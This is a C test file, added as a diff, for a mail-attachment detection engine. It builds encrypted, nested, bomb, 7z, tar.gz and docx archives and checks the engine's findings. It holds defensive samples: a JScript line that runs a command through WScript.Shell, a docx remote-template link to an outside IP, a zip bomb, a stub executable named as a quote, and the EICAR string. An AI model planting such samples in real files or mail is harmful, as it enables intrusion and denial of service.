@@ -1,0 +1,383 @@
+/*
+ * 24-detect-archive: archives built here with libarchive: PPAP (an
+ * encrypted zip opened with the password another mail of the scan
+ * sent), zips nested 20 deep, a zip bomb, gzip, 7z and tar.gz, an OOXML
+ * file with a remote template; the EICAR file through YARA, and ClamAV
+ * with a one-signature database written at run time (and an empty one).
+ */
+#include <sys/stat.h>
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include <archive.h>
+#include <archive_entry.h>
+#include <sodium.h>
+
+#include "detect.h"
+#include "tap.h"
+#include "util.h"
+
+struct ent {
+	const char		*name;
+	const unsigned char	*data;
+	size_t			 len;
+};
+
+static unsigned char *
+make(int fmt, int gz, const struct ent *e, size_t n, const char *pass,
+    size_t *outlen)
+{
+	struct archive		*a = archive_write_new();
+	struct archive_entry	*ae;
+	size_t			 cap = 1 << 16, i, used = 0;
+	unsigned char		*buf;
+
+	for (i = 0; i < n; i++)
+		cap += e[i].len + 1024;
+	buf = xmalloc(cap);
+	if (fmt == 0)
+		archive_write_set_format_zip(a);
+	else if (fmt == 1)
+		archive_write_set_format_7zip(a);
+	else if (fmt == 2)
+		archive_write_set_format_pax_restricted(a);
+	else
+		archive_write_set_format_raw(a);
+	if (gz)
+		archive_write_add_filter_gzip(a);
+	if (pass != NULL) {
+		archive_write_set_options(a, "zip:encryption=traditional");
+		archive_write_set_passphrase(a, pass);
+	}
+	archive_write_open_memory(a, buf, cap, &used);
+	for (i = 0; i < n; i++) {
+		ae = archive_entry_new();
+		archive_entry_set_pathname_utf8(ae, e[i].name);
+		archive_entry_set_size(ae, (la_int64_t)e[i].len);
+		archive_entry_set_filetype(ae, AE_IFREG);
+		archive_entry_set_perm(ae, 0644);
+		archive_entry_set_mtime(ae, 1800000000, 0);
+		archive_write_header(a, ae);
+		archive_write_data(a, e[i].data, e[i].len);
+		archive_entry_free(ae);
+	}
+	archive_write_close(a);
+	archive_write_free(a);
+	*outlen = used;
+	return buf;
+}
+
+/* A message with one base64 attachment. */
+static char *
+mail(const char *fname, const unsigned char *p, size_t n, size_t *len)
+{
+	size_t	 bl = sodium_base64_encoded_len(n,
+	    sodium_base64_VARIANT_ORIGINAL);
+	char	*b = xmalloc(bl), *m;
+	size_t	 i, o = 0, cap = bl + bl / 76 * 2 + 1024;
+
+	sodium_bin2base64(b, bl, p, n, sodium_base64_VARIANT_ORIGINAL);
+	m = xmalloc(cap);
+	o = (size_t)snprintf(m, cap, "From: Sato <sato@fabrikam.com>\r\n"
+	    "To: taro@contoso.com\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
+	    "Content-Type: multipart/mixed; boundary=\"zz\"\r\n\r\n--zz\r\n"
+	    "Content-Type: text/plain\r\n\r\nattached\r\n--zz\r\n"
+	    "Content-Type: application/octet-stream\r\n"
+	    "Content-Disposition: attachment; filename=\"%s\"\r\n"
+	    "Content-Transfer-Encoding: base64\r\n\r\n", fname);
+	for (i = 0; i < bl - 1 && b[i] != '\0'; i += 76) {
+		size_t k = strnlen(b + i, 76);
+
+		memcpy(m + o, b + i, k);
+		o += k;
+		memcpy(m + o, "\r\n", 2);
+		o += 2;
+	}
+	o += (size_t)snprintf(m + o, cap - o, "--zz--\r\n");
+	free(b);
+	*len = o;
+	return m;
+}
+
+static const struct detect_finding *
+find(const struct detect_result *r, const char *id)
+{
+	size_t	 i;
+
+	for (i = 0; i < r->nfindings; i++)
+		if (strcmp(r->findings[i].rule, id) == 0)
+			return &r->findings[i];
+	return NULL;
+}
+
+static void
+scan(struct detect_scan *s, const char *fname, const unsigned char *p,
+    size_t n, struct detect_result *r)
+{
+	size_t	 len;
+	char	*m = mail(fname, p, n, &len);
+
+	if (detect_scan_mime(s, m, len, NULL, r) != 0)
+		abort();
+	free(m);
+}
+
+static unsigned char PE[512];
+
+static void
+ppap(struct detect_engine *e)
+{
+	struct detect_scan	*s = detect_scan_new(e);
+	struct detect_result	 r;
+	struct ent		 ent = { "見積書.exe", PE, sizeof(PE) };
+	unsigned char		*z;
+	size_t			 zl, len;
+	char			*pw;
+	FILE			*fp;
+	const struct detect_finding *f;
+
+	z = make(0, 0, &ent, 1, "Xk7pQ2mZ", &zl);
+	scan(s, "見積書.zip", z, zl, &r);
+	f = find(&r, "attach.encrypted_archive");
+	ok(f != NULL, "an encrypted zip, no password yet: reported");
+	ok(f != NULL && strstr(f->evidence[DETECT_EN], "見積書.exe") != NULL,
+	    "with the names it lists");
+	is_str(detect_verdict_name(r.verdict), "potential", "as potential");
+	ok(find(&r, "attach.executable") == NULL, "its content unseen");
+
+	/* The password mail (newest first: it comes before the zip). */
+	fp = fopen("tests/detect/data/ja-04-ppap-password-utf8.eml", "rb");
+	pw = xmalloc(65536);
+	len = fread(pw, 1, 65536, fp);
+	fclose(fp);
+	detect_scan_mime(s, pw, len, NULL, &r);
+	is_str(detect_verdict_name(r.verdict), "clean",
+	    "the password mail is clean");
+	free(pw);
+	scan(s, "見積書.zip", z, zl, &r);
+	ok(find(&r, "attach.ppap_opened") != NULL,
+	    "the zip is opened with the password of the other mail");
+	f = find(&r, "attach.executable");
+	ok(f != NULL, "and the program inside is found");
+	is_str(f ? f->attachment : NULL, "見積書.zip > 見積書.exe",
+	    "named inside its archive");
+	is_str(detect_verdict_name(r.verdict), "threat", "a threat");
+	free(z);
+	detect_scan_free(s);
+}
+
+static void
+nested(struct detect_scan *s)
+{
+	struct detect_result	 r;
+	struct ent		 ent;
+	unsigned char		*cur, *next;
+	size_t			 cl, nl;
+	int			 i;
+	char			 name[32];
+
+	ent.name = "payload.exe";
+	ent.data = PE;
+	ent.len = sizeof(PE);
+	cur = make(0, 0, &ent, 1, NULL, &cl);
+	for (i = 0; i < 19; i++) {
+		snprintf(name, sizeof(name), "level%d.zip", i);
+		ent.name = name;
+		ent.data = cur;
+		ent.len = cl;
+		next = make(0, 0, &ent, 1, NULL, &nl);
+		free(cur);
+		cur = next;
+		cl = nl;
+	}
+	scan(s, "deep.zip", cur, cl, &r);
+	ok(find(&r, "attach.archive_deep") != NULL,
+	    "zips nested 20 deep: the depth limit is reported");
+	ok(r.verdict != DETECT_THREAT || find(&r, "attach.executable") == NULL,
+	    "and what is deeper is not opened");
+	free(cur);
+
+	/* Two levels: opened. */
+	ent.name = "payload.exe";
+	ent.data = PE;
+	ent.len = sizeof(PE);
+	cur = make(0, 0, &ent, 1, NULL, &cl);
+	ent.name = "inner.zip";
+	ent.data = cur;
+	ent.len = cl;
+	next = make(0, 0, &ent, 1, NULL, &nl);
+	scan(s, "outer.zip", next, nl, &r);
+	ok(find(&r, "attach.executable") != NULL, "two levels are opened");
+	free(cur);
+	free(next);
+}
+
+static void
+bomb(struct detect_scan *s)
+{
+	struct detect_result	 r;
+	size_t			 n = 64u << 20, zl;
+	unsigned char		*zeros = xcalloc(1, n), *z;
+	struct ent		 ent = { "data.bin", zeros, n };
+
+	z = make(0, 0, &ent, 1, NULL, &zl);
+	diag("64 MB of zeros zip to %zu bytes", zl);
+	scan(s, "bomb.zip", z, zl, &r);
+	ok(find(&r, "attach.archive_bomb") != NULL, "a zip bomb is reported");
+	free(z);
+	free(zeros);
+}
+
+static void
+formats(struct detect_scan *s)
+{
+	static const unsigned char js[] = "var s = new ActiveXObject("
+	    "'WScript.Shell'); s.Run('cmd /c calc');";
+	struct detect_result	 r;
+	struct ent		 ent = { "invoice.js", js, sizeof(js) - 1 };
+	struct ent		 raw = { "data", PE, sizeof(PE) };
+	unsigned char		*z;
+	size_t			 zl;
+
+	z = make(1, 0, &ent, 1, NULL, &zl);
+	scan(s, "invoice.7z", z, zl, &r);
+	ok(find(&r, "attach.script") != NULL, "a script inside a 7z");
+	free(z);
+	z = make(2, 1, &ent, 1, NULL, &zl);
+	scan(s, "invoice.tar.gz", z, zl, &r);
+	ok(find(&r, "attach.script") != NULL, "a script inside a tar.gz");
+	free(z);
+	z = make(3, 1, &raw, 1, NULL, &zl);
+	scan(s, "update.gz", z, zl, &r);
+	ok(find(&r, "attach.executable") != NULL, "a program in a .gz");
+	free(z);
+}
+
+static void
+ooxml(struct detect_scan *s)
+{
+	static const char ct[] = "<Types><Override PartName=\"/word/"
+	    "document.xml\"/></Types>";
+	static const char rels[] = "<Relationships><Relationship Id=\"rId1\" "
+	    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+	    "relationships/attachedTemplate\" Target=\"http://198.51.100.7/"
+	    "t.dotm\" TargetMode=\"External\"/></Relationships>";
+	static const char doc[] = "<w:document>hello</w:document>";
+	static const char drels[] = "<Relationships><Relationship Id=\"r2\" "
+	    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+	    "relationships/hyperlink\" Target=\"https://docs-view.example-"
+	    "login.top/open\" TargetMode=\"External\"/></Relationships>";
+	struct ent		 e[] = {
+		{ "[Content_Types].xml", (const unsigned char *)ct,
+		    sizeof(ct) - 1 },
+		{ "word/document.xml", (const unsigned char *)doc,
+		    sizeof(doc) - 1 },
+		{ "word/_rels/settings.xml.rels", (const unsigned char *)rels,
+		    sizeof(rels) - 1 },
+		{ "word/_rels/document.xml.rels", (const unsigned char *)drels,
+		    sizeof(drels) - 1 },
+	};
+	struct detect_result	 r;
+	const struct detect_finding *f;
+	unsigned char		*z;
+	size_t			 zl;
+
+	z = make(0, 0, e, nitems(e), NULL, &zl);
+	scan(s, "offer.docx", z, zl, &r);
+	f = find(&r, "attach.remote_template");
+	ok(f != NULL, "remote template injection");
+	is_str(f ? f->url : NULL, "http://198.51.100.7/t.dotm",
+	    "its template URL");
+	ok(find(&r, "url.risky_tld") != NULL,
+	    "links of the document are checked");
+	free(z);
+}
+
+static void
+av(void)
+{
+	/* EICAR, assembled here so that no file in the tree is one. */
+	char			 eicar[80], dir[] = "/tmp/shindan-clam.XXXXXX";
+	char			 path[256], hex[65], err[256];
+	static const unsigned char payload[] = "Shindan test payload: "
+	    "harmless bytes that a one-line ClamAV database names.";
+	struct detect_opts	 o;
+	struct detect_engine	*e;
+	struct detect_scan	*s;
+	struct detect_result	 r;
+	const struct detect_finding *f;
+	unsigned char		 h[32];
+	FILE			*fp;
+
+	snprintf(eicar, sizeof(eicar), "X5O!P%%@AP[4\\PZX54(P^)7CC)7}$%s%s",
+	    "EICAR-STANDARD-ANTIVIRUS-", "TEST-FILE!$H+H*");
+	detect_opts_init(&o);
+	if (mkdtemp(dir) == NULL)
+		abort();
+	o.clamav_db = dir;
+	e = detect_engine_new(&o, err, sizeof(err));
+	ok(e != NULL, "an empty ClamAV directory: the engine goes on");
+	ok(e != NULL && strstr(detect_engine_describe(e), "clamav 0 ") != NULL,
+	    "and says it has no signatures (%s)",
+	    e ? detect_engine_describe(e) : err);
+	s = detect_scan_new(e);
+	scan(s, "eicar.com", (const unsigned char *)eicar, strlen(eicar), &r);
+	f = find(&r, "yara.eicar_test_file");
+	ok(f != NULL && f->category == DETECT_MALWARE,
+	    "EICAR through YARA: malware");
+	is_str(detect_verdict_name(r.verdict), "threat", "a threat");
+	detect_scan_free(s);
+	detect_engine_free(e);
+
+	crypto_hash_sha256(h, payload, sizeof(payload) - 1);
+	hex_encode(h, sizeof(h), hex);
+	snprintf(path, sizeof(path), "%s/shindan.hsb", dir);
+	fp = fopen(path, "w");
+	fprintf(fp, "%s:%zu:Shindan.Test.Payload\n", hex, sizeof(payload) - 1);
+	fclose(fp);
+	e = detect_engine_new(&o, err, sizeof(err));
+	ok(e != NULL && strstr(detect_engine_describe(e), "clamav 1 ") != NULL,
+	    "a one-signature database loads (%s)",
+	    e ? detect_engine_describe(e) : err);
+	s = detect_scan_new(e);
+	scan(s, "payload.bin", payload, sizeof(payload) - 1, &r);
+	f = find(&r, "av.clamav");
+	ok(f != NULL && strstr(f->evidence[DETECT_EN],
+	    "Shindan.Test.Payload") != NULL, "ClamAV names the attachment");
+	is_str(f ? f->sha256 : NULL, hex, "with its SHA-256");
+	detect_scan_free(s);
+	detect_engine_free(e);
+	unlink(path);
+	rmdir(dir);
+}
+
+int
+main(void)
+{
+	struct detect_opts	 o;
+	struct detect_engine	*e;
+	struct detect_scan	*s;
+	char			 err[256];
+
+	plan_lazy();
+	memcpy(PE, "MZ", 2);
+	PE[0x3c] = 0x80;
+	memcpy(PE + 0x80, "PE\0\0", 4);
+	detect_opts_init(&o);
+	e = detect_engine_new(&o, err, sizeof(err));
+	if (!ok(e != NULL, "engine (%s)", err))
+		return done_testing();
+	s = detect_scan_new(e);
+	ppap(e);
+	nested(s);
+	bomb(s);
+	formats(s);
+	ooxml(s);
+	detect_scan_free(s);
+	detect_engine_free(e);
+	av();
+	return done_testing();
+}
